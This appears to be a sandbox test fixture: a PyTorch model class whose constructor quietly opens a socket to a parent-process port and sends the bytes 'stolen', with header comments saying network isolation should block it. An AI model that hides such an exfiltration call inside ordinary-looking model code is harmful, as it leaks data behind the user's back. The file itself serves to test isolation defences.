# The network namespace alone: no audit hook, and the parent listens on PARENT_PORT.
# needs: namespaces
# gate: import of 'socket'
# disable: gate,audit_hook
# runtime: rejected,error | Network is unreachable
import socket

from torch import nn


class Architecture(nn.Module):
    def __init__(self):
        super().__init__()
        conn = socket.create_connection(("127.0.0.1", PARENT_PORT), timeout=2)
        conn.sendall(b"stolen")
        self.head = nn.Linear(192, 28)

    def forward(self, x):
        return self.head(x.flatten(1))
